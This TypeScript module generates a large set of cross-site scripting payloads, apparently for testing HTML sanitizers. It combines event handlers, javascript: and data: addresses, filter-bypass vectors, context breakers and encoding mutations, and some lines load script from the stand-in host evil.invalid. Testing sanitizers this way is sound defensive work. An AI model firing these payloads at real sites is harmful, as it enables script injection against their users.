/** What runs in the payloads. A page in which it does is marked, opens a dialog, or asks a site that nobody else asks. */
const RUNS = ["pwned(1)", "alert(1)", "window.ran=1", "print()", "confirm`1`", "import('//evil.invalid/x')", "console.error('pwned')"];

/** The events of HTML, SVG and CSS that cheat sheets list. */
const EVENTS = (
  "afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut " +
  "beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay " +
  "canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter " +
  "dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange " +
  "gesturechange gestureend gesturestart hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart " +
  "message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pagehide pageshow pagereveal pause " +
  "play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup " +
  "popstate progress ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation " +
  "seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel " +
  "touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange " +
  "waiting webkitanimationend webkitfullscreenchange webkitmouseforcechanged webkittransitionend wheel"
).split(" ");

/** Elements that have them, with what makes them fire by themselves. `@` is the event with its handler. */
const CARRIERS = [
  "<img src=x @>",
  "<svg @>",
  "<body @>",
  "<video src=x autoplay @>",
  "<audio controls @><source src=x>",
  "<input autofocus @>",
  "<details open @>x",
  "<xss id=x tabindex=1 style=display:block @>x</xss>",
  "<marquee loop=1 width=0 @>x</marquee>",
  "<iframe src=about:blank @></iframe>",
  "<dialog open @>x",
  "<svg><animate attributeName=x dur=1s @>",
];

/** A script in an address, as filters have been got around. `!` is what runs. */
const ADDRESSES = [
  "javascript:!", "JavaScript:!", "jAvAsCrIpT:!", " javascript:!", "\tjavascript:!", "\u0001javascript:!", "\u00a0javascript:!",
  "java\tscript:!", "java&#9;script:!", "java&Tab;script:!", "java&NewLine;script:!", "javascript&colon;!", "javascript&#58;!",
  "javascript&#x3a;!", "&#106;avascript:!", "&#x6a;avascript:!", "&#0000106avascript:!", "javascript:%61lert(1)//!",
  "javascript://%0a!", "javascript://example.org/%0d%0a!", "javascript:/*--></title>*/!", "javascript:'-!-'", "javascript:void !",
  "data:text/html,<script>!</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=!>",
  "vbscript:msgbox(1)", "livescript:!", "mocha:!", "feed:javascript:!", "view-source:javascript:!", "jar:javascript:!", "blob:javascript:!",
  "%6aavascript:!", "\\javascript:!", "//evil.invalid/x", "/\\evil.invalid/x", "https:evil.invalid", "http://evil.invalid/%22onclick=!",
];

/** Where an address is followed, or loaded. `#` is the address. */
const FOLLOWED = [
  '<a href="#">x</a>', '<svg><a xlink:href="#"><text>x</text></a></svg>', '<math href="#">x</math>', '<area href="#">', '<iframe src="#"></iframe>',
  '<object data="#"></object>', '<embed src="#">', '<form action="#"><input type=submit></form>', '<button form=x formaction="#">x</button>',
  '<base href="#">', '<link rel=import href="#">', '<meta http-equiv=refresh content="0;url=#">', '<script src="#"></script>',
  '<svg><use href="#"/></svg>', '<svg><image href="#"/></svg>', '<video poster="#"></video>', '<input type=image src="#">',
  "[x](#)", "[x](<#>)", "![x](#)", "<#>", "[x]: #", '[x](https://example.org "#")', "[#](https://example.org)", "#",
];

/** Vectors of the cheat sheets of OWASP, PortSwigger and html5sec, and mutations that sanitizers have let through. */
const VECTORS = [
  "<script>!</script>", "<script\\x20type=text/javascript>!</script>", "<script src=//evil.invalid/x></script>", "<script>!</script", "<script/x>!</script>",
  "<<script>!//<</script>", "<scr<script>ipt>!</scr</script>ipt>", "<script a='>'>!</script>", "<script>/*<*/!/*>*/</script>", "<script type=module>!</script>",
  "<script type=importmap>{}</script><script>!</script>", "<svg><script href=data:,!></script>", "<svg><script>&#97;lert(1)//!</script>", "<svg/onload=!>",
  "<svg><style>{font-family:'<iframe/onload=!>'", "<svg><set attributeName=href to=javascript:!>", "<svg><animate xlink:href=#x attributeName=href values=javascript:!>",
  "<svg><foreignObject><iframe srcdoc='<script>!</script>'></foreignObject>", "<svg><discard onbegin=!>", "<svg><title><a id='</title><img src=x onerror=!>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=!&gt;'>", "<math><annotation-xml encoding=text/html><script>!</script>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=!>", "<math><mi//xlink:href='data:x,<script>!</script>'>", "<table><td background=javascript:!>",
  "<noscript><p title='</noscript><img src=x onerror=!>'>", "<style><style/><img src=x onerror=!>", "<xmp><p title='</xmp><svg/onload=!>'>",
  "<textarea><img title='</textarea><img src onerror=!>'>", "<title><img title='</title><img src onerror=!>'>", "<listing>&lt;img src=x onerror=!&gt;</listing>",
  "<template><s><template><s><img src=x onerror=!>", "<select><template><script>!</script>", "<p><template shadowrootmode=open><script>!</script>",
  "<img src='x`<script>!</script>`'>", "<img \"\"\"><script>!</script>\">", "<img src=x:x onerror=!>", "<img srcset=',,,,,x' onerror=!>", "<image src=x onerror=!>", "<img/src=`x`onerror=!>",
  "<input type=image src=x onerror=!>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<link rel=preload as=script href=//evil.invalid/x>", "<link rel=dns-prefetch href=//evil.invalid>",
  "<style>@import '//evil.invalid/x'</style>", "<style>*{background:url(//evil.invalid/x)}</style>", "<style>@keyframes x{}</style><a style='animation-name:x' onanimationstart=!>",
  "<div style='width:expression(!)'>", "<div style='behavior:url(//evil.invalid/x)'>", "<div style='-moz-binding:url(//evil.invalid/x)'>", "<a style='position:fixed;inset:0' href=//evil.invalid>x</a>",
  "<meta charset=x-mac-farsi>¼script¾!¼/script¾", "+ADw-script+AD4-!+ADw-/script+AD4-", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>!</script>",
  "<iframe srcdoc='&lt;img src=x onerror=!&gt;'>", "<iframe/src=\"data:text/html,<svg onload=!>\">", "<frameset onload=!>", "<frameset><frame src=javascript:!>", "<object type=text/x-scriptlet data=//evil.invalid/x>",
  "<embed code=//evil.invalid/x.swf allowscriptaccess=always>", "<applet code=x archive=//evil.invalid>", "<isindex type=image src=1 onerror=!>", "<bgsound src=javascript:!>", "<layer src=//evil.invalid/x>",
  "<keygen autofocus onfocus=!>", "<portal src=javascript:!>", "<fencedframe src=javascript:!>", "<xml id=x><x><script>!</script></x></xml>", "<?xml-stylesheet href='javascript:!'?>", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>!</x:script>",
  "<![CDATA[<script>!</script>]]>", "<!--[if gte IE 4]><script>!</script><![endif]-->", "<!--><img src=x onerror=!>-->", "<!--!><img src=x onerror=!>", "--!><script>!</script>", "<!DOCTYPE x [<!ENTITY y '<script>!</script>'>]>&y;",
  "{{constructor.constructor('!')()}}", "{{$on.constructor('!')()}}", "${!}", "#{!}", "<%= ! %>", "{{=!}}", "{% raw %}<script>!</script>{% endraw %}", "[[${!}]]", "@(!)", "<div ng-app ng-csp><p ng-click=$event.view.!>x</p></div>",
  "<div v-html=\"'<img src=x onerror=!>'\">", "<div x-data x-init='!'>", "<div data-bind='html: !'>", "<a href=# onclick=!>x", "<button popovertarget=x onbeforetoggle=!>x</button><p popover id=x>", "<slot name=x onslotchange=!>",
  "<form id=x></form><button form=x formaction=javascript:!>x", "<form name=body><input name=innerHTML>", "<a id=location href=javascript:!>", "<img name=cookie src=x onerror=!>", "<input name=__proto__ onfocus=! autofocus>",
  "';!;//", "\";!;//", "`;!;//", "\\';!;//", "</script><svg onload=!>", "'-!-'", "\"-!-\"", "${`${!}`}", "\u2028!\u2029", "*/!/*", "\\u003cscript\\u003e!\\u003c/script\\u003e", "\\x3cscript\\x3e!\\x3c/script\\x3e",
];

/** Ends what a payload may be in. `@` is the payload. */
const BREAKS = [
  "@", '">@', "'>@", "</title>@", "</textarea>@", "</style>@", "</script>@", "</template>@", "</noscript>@", "--><!--@", "]]>@", '"/>@', "\\\">@", "`@`",
  "```\n@\n```", "</pre></code>@", "| @ |", "> @", "# @", "<br>@", "\\@", "**@**", "[@][@]",
];

const entity = (write: (code: number) => string) => (payload: string) =>
  payload.replace(/[<>"'&:()]/g, (character) => write(character.codePointAt(0) ?? 0));

/** Ways to write a payload that one of two readers takes back. */
const WRITTEN: ((payload: string) => string)[] = [
  entity((code) => `&#${code};`),
  entity((code) => `&#x${code.toString(16)};`),
  entity((code) => `&#${String(code).padStart(7, "0")}`),
  entity((code) => `%${code.toString(16)}`),
  entity((code) => `%25${code.toString(16)}`),
  entity((code) => `\\u${code.toString(16).padStart(4, "0")}`),
  entity((code) => `\\x${code.toString(16).padStart(2, "0")}`),
  entity((code) => String.fromCodePoint(code + 0xfee0)),
  (payload) => payload.replaceAll(/\b(?=[a-z])/g, "\0"),
  (payload) => payload.replaceAll(" ", "/**/"),
  (payload) => payload.replaceAll(" ", "\x0c"),
  (payload) => payload.replaceAll("=", " = \t"),
  (payload) => payload.toUpperCase(),
  (payload) => payload.replaceAll("s", "ſ").replaceAll("k", "K"),
  (payload) => payload.replaceAll("<", "<<").replaceAll(">", ">>"),
  (payload) => payload.replaceAll("<", "‹").replaceAll(">", "›"),
];

function known(): string[] {
  let next = 0;
  const run = () => RUNS[next++ % RUNS.length] ?? "";
  const filled = (vector: string) => vector.replaceAll("!", run);
  const events = EVENTS.flatMap((event) => CARRIERS.map((carrier) => carrier.replace("@", () => `on${event}=${run()}`)));
  const addresses = FOLLOWED.flatMap((place) => ADDRESSES.map((address) => place.replaceAll("#", () => filled(address))));
  const broken = BREAKS.flatMap((end) => VECTORS.map((vector) => end.replaceAll("@", () => filled(vector))));
  const written = WRITTEN.flatMap((write) => VECTORS.map((vector) => write(filled(vector))));
  return [...new Set([...events, ...addresses, ...broken, ...written])];
}

/** Ends whatever an author's words may be in: a value, a title, a field, an option, a script, a style or a comment. */
export const ENDING = `"'></title></textarea></option></script></style>--><img src=x onerror=window.ran=1>`;

/** All payloads, each of them different. */
export const PAYLOADS: string[] = [ENDING, ...known()];

/** Payloads in turn. */
export class Payloads {
  given = 0;

  /** Every `each`th payload, so that a short attack has some of each family. */
  constructor(private readonly each = 1) {}

  /** Whether all payloads have been given. */
  get isDone(): boolean {
    return this.given * this.each >= PAYLOADS.length;
  }

  next(): string {
    return PAYLOADS[(this.given++ * this.each) % PAYLOADS.length] ?? "";
  }

  /** The next one that can be a name: in one short line without control characters. */
  word(): string {
    for (;;) {
      const payload = this.next();
      if (payload.length <= 90 && !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(payload)) return payload;
    }
  }
}
